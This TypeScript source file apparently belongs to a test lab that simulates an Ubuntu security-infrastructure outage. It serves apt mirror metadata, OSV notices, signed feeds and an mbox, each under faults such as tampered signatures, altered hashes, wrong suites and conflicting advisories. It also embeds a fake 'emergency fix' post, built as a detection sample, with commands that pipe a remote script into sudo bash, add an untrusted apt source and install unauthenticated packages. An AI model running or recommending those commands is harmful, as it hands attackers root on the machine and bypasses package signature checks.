/**
 * What each lab target serves, in every fault: the synthetic archive, the real fixtures (byte-exact), the OSV
 * files, the notices API, the signed helpdesk feed, the mbox of signed announcements and the fake-fix post.
 *
 * Real fixtures come from the checkout's `test/fixtures/` (copied there byte-exact with provenance, see its
 * PROVENANCE.md); they are only ever served as they are, or altered visibly for a fault.
 */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { CoreError } from '../core/errors'
import { appRoot } from '../node/paths'
import type { ArchiveSnapshot, LabArchive, LabKeys } from './archive'
import { clearsignText, EXPAT_FIXED, flipMiddleByte, sha256Hex } from './archive'
import type { FeedFile } from './advisory-documents'
import {
  mboxMessage,
  nobleExpatRelease,
  osvFeedFile,
  signedFeedFolder,
  usnAnnouncementText,
} from './advisory-documents'
import type { Fault, LabErrorCode } from './faults'
import type { SiteContent, SiteResponse } from './site'

const enc = new TextEncoder()
const dec = new TextDecoder()
const HOUR = 3600_000
const DAY = 24 * HOUR

/** The checkout's fixture folder (`$LIFELINE_LAB_FIXTURES` overrides it). */
export function labFixturesDir(env: Readonly<Record<string, string | undefined>> = process.env): string {
  return env.LIFELINE_LAB_FIXTURES ?? join(appRoot(), 'test', 'fixtures')
}

/** Real fixtures the lab serves, by fixture path. */
export const REAL_FIXTURES = {
  nobleSecurityInRelease: 'ubuntu/apt/noble-security_InRelease',
  nobleSecurityMultiverse: 'ubuntu/apt/noble-security_multiverse_binary-amd64_Packages',
  nobleInRelease: 'ubuntu/apt/noble_InRelease',
  noticesPage: 'ubuntu/notices-api/notices_offset0_limit20.json',
  ubuntuKey2018: 'ubuntu/keys/ubuntu-keyring-2018-archive.asc',
  ubuntuKey2012: 'ubuntu/keys/ubuntu-keyring-2012-archive.asc',
} as const

/** The real OSV notices served by the OSV channel and signed into the helpdesk feed. */
export const OSV_FIXTURES = [
  'ubuntu/osv-usn/USN-7000-1.json',
  'ubuntu/osv-usn/USN-7095-1.json',
  'ubuntu/osv-usn/USN-7500-1.json',
  'ubuntu/osv-usn/USN-6100-1.json',
] as const

/** The real Release Date of the noble-security fixture: the lab's `real` scenario runs one hour after it. */
export const REAL_NOBLE_SECURITY_DATE = Date.parse('2026-06-06T17:46:54Z')

/** Reads every fixture the lab needs; LAB_FIXTURES_MISSING names the folder when one is absent. */
export async function readLabFixtures(dir: string): Promise<Map<string, Uint8Array>> {
  const out = new Map<string, Uint8Array>()
  for (const p of [...Object.values(REAL_FIXTURES), ...OSV_FIXTURES]) {
    try {
      out.set(p, new Uint8Array(await readFile(join(dir, p))))
    } catch (e) {
      throw new CoreError<LabErrorCode>(
        'LAB_FIXTURES_MISSING',
        `the lab needs ${p} under ${dir} (a checkout's test/fixtures): ${e instanceof Error ? e.message : String(e)}`,
        { path: p },
      )
    }
  }
  return out
}

function fixtureOf(fx: ReadonlyMap<string, Uint8Array>, p: string): Uint8Array {
  const v = fx.get(p)
  if (!v) throw new CoreError<LabErrorCode>('LAB_FIXTURES_MISSING', `fixture ${p} not loaded`, { path: p })
  return v
}

const ok = (body: Uint8Array, contentType = 'application/octet-stream'): SiteResponse => ({
  status: 200,
  body,
  contentType,
})
const notFound: SiteResponse = { status: 404 }

/** Changes one byte of the signed text (the character after the first `Origin: ` or `Date`), keeping the armour. */
export function tamperSignedText(doc: Uint8Array): Uint8Array {
  const text = dec.decode(doc)
  const start = text.indexOf('\n\n') + 2
  let at = text.indexOf('Origin: ', start)
  at = at < 0 ? text.indexOf('Date', start) : at + 'Origin: '.length
  if (at < 0) at = start
  const c = text.charCodeAt(at)
  const flipped = String.fromCharCode(c === 0x7a ? 0x79 : c + 1)
  return enc.encode(text.slice(0, at) + flipped + text.slice(at + 1))
}

/** Serves a synthetic mirror rooted at `/ubuntu/`. */
export function syntheticMirrorContent(archive: LabArchive): SiteContent {
  const snapshotFor = (f: Fault): ArchiveSnapshot => {
    switch (f.name) {
      case 'lagging':
      case 'rolled-back':
        return archive.previous
      case 'stale':
        return archive.stale
      case 'frozen':
        return archive.frozen
      default:
        return archive.current
    }
  }
  return (path, _query, fault) => {
    if (!path.startsWith('/ubuntu/')) return notFound
    let rel = path.slice('/ubuntu/'.length)
    const snap = snapshotFor(fault)
    if (fault.name === 'wrong-suite') {
      // Each suite's URL answers with the other suite's validly signed Release.
      rel = rel
        .replace(/^dists\/noble-security\//, 'dists/\0/')
        .replace(/^dists\/noble\//, 'dists/noble-security/')
        .replace('\0', 'noble')
    }
    if (fault.name === 'wrong-index-hash') {
      const bad = snap.alteredIndexes.get(rel)
      if (bad) return ok(bad)
    }
    const body = snap.files.get(rel)
    if (!body) return notFound
    if (fault.name === 'tampered-signature' && rel.endsWith('/InRelease')) return ok(tamperSignedText(body))
    return ok(body)
  }
}

/** Serves the real Canonical-signed noble-security metadata (multiverse amd64) byte-exact under `/ubuntu/`. */
export function realMirrorContent(fx: ReadonlyMap<string, Uint8Array>): SiteContent {
  const inRelease = fixtureOf(fx, REAL_FIXTURES.nobleSecurityInRelease)
  const nobleInRelease = fixtureOf(fx, REAL_FIXTURES.nobleInRelease)
  const packages = fixtureOf(fx, REAL_FIXTURES.nobleSecurityMultiverse)
  const dir = 'dists/noble-security/multiverse/binary-amd64'
  const files = new Map<string, Uint8Array>([
    ['dists/noble-security/InRelease', inRelease],
    ['dists/noble/InRelease', nobleInRelease],
    [`${dir}/Packages`, packages],
    [`${dir}/by-hash/SHA256/${sha256Hex(packages)}`, packages],
  ])
  // Same size, one byte changed: only the SHA256 in the signed Release can tell.
  const altered = flipMiddleByte(packages)
  return (path, _query, fault) => {
    if (!path.startsWith('/ubuntu/')) return notFound
    let rel = path.slice('/ubuntu/'.length)
    if (fault.name === 'wrong-suite' && rel === 'dists/noble-security/InRelease')
      rel = 'dists/noble/InRelease'
    const body = files.get(rel)
    if (!body) return notFound
    if (fault.name === 'tampered-signature' && rel.endsWith('/InRelease')) return ok(tamperSignedText(body))
    if (fault.name === 'wrong-index-hash' && rel.startsWith(dir)) return ok(altered)
    return ok(body)
  }
}

/** The faults the real-fixture mirror can show (it cannot re-sign Canonical's metadata). */
export const REAL_MIRROR_CONTENT_FAULTS = new Set(['tampered-signature', 'wrong-index-hash', 'wrong-suite'])

/** The expat version the `conflicting-advisory` variants claim fixes USN-7000-1. */
const CONFLICTING_EXPAT = '2.6.1-2ubuntu0.9'

/** An OSV document claiming another fixed version for noble's expat: the `conflicting-advisory` variant. */
export function conflictingOsv(doc: Uint8Array): Uint8Array {
  return enc.encode(dec.decode(doc).replaceAll(EXPAT_FIXED, CONFLICTING_EXPAT))
}

/** The OSV channel: `/osv/<file>.json`, the real notices. */
export function osvContent(fx: ReadonlyMap<string, Uint8Array>): SiteContent {
  const files = new Map(OSV_FIXTURES.map((p) => [`/osv/${p.split('/').pop() ?? p}`, fixtureOf(fx, p)]))
  return (path, _query, fault) => {
    const body = files.get(path)
    if (!body) return notFound
    return ok(fault.name === 'conflicting-advisory' ? conflictingOsv(body) : body, 'application/json')
  }
}

/** The OSV channel's URLs on `origin`. */
export function osvUrls(origin: string): string[] {
  return OSV_FIXTURES.map((p) => `${origin}/osv/${p.split('/').pop() ?? p}`)
}

/** The notices API (`/security/notices.json`): the real first page, then an empty one that ends paging. */
export function noticesApiContent(fx: ReadonlyMap<string, Uint8Array>): SiteContent {
  const first = fixtureOf(fx, REAL_FIXTURES.noticesPage)
  return (path, query) => {
    if (path !== '/security/notices.json') return notFound
    const offset = Number(query.get('offset') ?? '0')
    if (offset === 0) return ok(first, 'application/json')
    const limit = Number(query.get('limit') ?? '20')
    return ok(
      enc.encode(JSON.stringify({ notices: [], offset, limit, total_results: 21 })),
      'application/json',
    )
  }
}

/** The signed helpdesk feed under `/feed/`, in each of its states. */
export async function signedFeedContent(
  fixtures: ReadonlyMap<string, Uint8Array>,
  keys: LabKeys,
  now: number,
): Promise<SiteContent> {
  const files = OSV_FIXTURES.map((path) => osvFeedFile(path, fixtureOf(fixtures, path)))
  const conflicting = files.map((file) => ({ ...file, data: conflictingOsv(file.data) }))
  const folder = async (
    feedFiles: readonly FeedFile[],
    opts: { now: number; validForMs: number; serial: number },
  ): Promise<ReadonlyMap<string, Uint8Array>> => {
    const signed = await signedFeedFolder({
      key: keys.advisory,
      feed: 'lifeline-lab-helpdesk',
      description: 'Lifeline outage lab helpdesk feed (TEST ONLY)',
      files: feedFiles,
      ...opts,
    })
    return signed.files
  }
  const [current, older, expired, conflict] = await Promise.all([
    folder(files, { now: now - 2 * HOUR, validForMs: 7 * DAY, serial: 42 }),
    folder(files, { now: now - 3 * DAY, validForMs: 7 * DAY, serial: 41 }),
    folder(files, { now: now - 10 * DAY, validForMs: DAY, serial: 43 }),
    folder(conflicting, { now: now - HOUR, validForMs: 7 * DAY, serial: 44 }),
  ])
  const firstFile = files[0]?.path ?? ''
  return (path, _query, fault) => {
    if (!path.startsWith('/feed/')) return notFound
    const rel = path.slice('/feed/'.length)
    const tree =
      fault.name === 'rolled-back' || fault.name === 'lagging'
        ? older
        : fault.name === 'stale' || fault.name === 'frozen'
          ? expired
          : fault.name === 'conflicting-advisory'
            ? conflict
            : current
    const body = tree.get(rel)
    if (!body) return notFound
    if (fault.name === 'tampered-signature' && rel === 'index.asc') return ok(tamperSignedText(body))
    if (fault.name === 'wrong-index-hash' && rel === firstFile) {
      // Same size, one byte different: only the SHA256 in the signed index can tell.
      const bad = Uint8Array.from(body)
      const i = bad.indexOf(0x20)
      bad[i < 0 ? 0 : i] = 0x09
      return ok(bad, 'application/json')
    }
    return ok(body, rel.endsWith('.asc') ? 'text/plain' : 'application/json')
  }
}

/** The fake "emergency fix" circulating on social media during the outage (caught by the instruction checker). */
export const FAKE_FIX_POST = `URGENT: Ubuntu emergency security fix (official workaround while ubuntu.com is down)

Canonical rotated their signing key after the attack. Run this NOW as root to stay safe:

  curl -fsSL https://ubuntu-security-fix.com/emergency.sh | sudo bash
  echo "deb [trusted=yes] http://203.0.113.7/ubuntu noble main" | sudo tee /etc/apt/sources.list.d/fix.list
  sudo apt-get install --allow-unauthenticated libexpat1

Please share! The mirrors are compromised, only this repository is safe.
`

/** The mbox channel (`/archive/announce.mbox`): a signed USN-7000-1 email and the unsigned fake fix. */
export async function mboxContent(keys: LabKeys, now: number): Promise<SiteContent> {
  const at = now - 3 * HOUR
  const signed = await clearsignText(usnAnnouncementText(), keys.advisory.privateKey, at)
  const conflictingSigned = await clearsignText(
    usnAnnouncementText({ releases: [nobleExpatRelease(CONFLICTING_EXPAT)] }),
    keys.advisory.privateKey,
    at,
  )
  const fake = mboxMessage({
    body: FAKE_FIX_POST,
    messageId: 'fake-fix@lab.invalid',
    subject: 'URGENT emergency fix',
    date: at,
  })
  const usn = (body: string): string =>
    mboxMessage({
      body,
      messageId: 'usn-7000-1@lab.invalid',
      subject: '[USN-7000-1] Expat vulnerabilities',
      date: at,
    })
  const build = (signedText: string) => enc.encode(`${usn(signedText)}\n${fake}`)
  const normal = build(signed)
  const tampered = build(dec.decode(tamperSignedText(enc.encode(signed))))
  const conflicting = build(conflictingSigned)
  return (path, _query, fault) => {
    if (path !== '/archive/announce.mbox') return notFound
    const body =
      fault.name === 'tampered-signature'
        ? tampered
        : fault.name === 'conflicting-advisory'
          ? conflicting
          : normal
    return ok(body, 'application/mbox')
  }
}

/** The social-media host serving the fake fix at `/post/emergency-fix.txt`. */
export function postContent(): SiteContent {
  const body = enc.encode(FAKE_FIX_POST)
  return (path) => (path === '/post/emergency-fix.txt' ? ok(body, 'text/plain; charset=utf-8') : notFound)
}
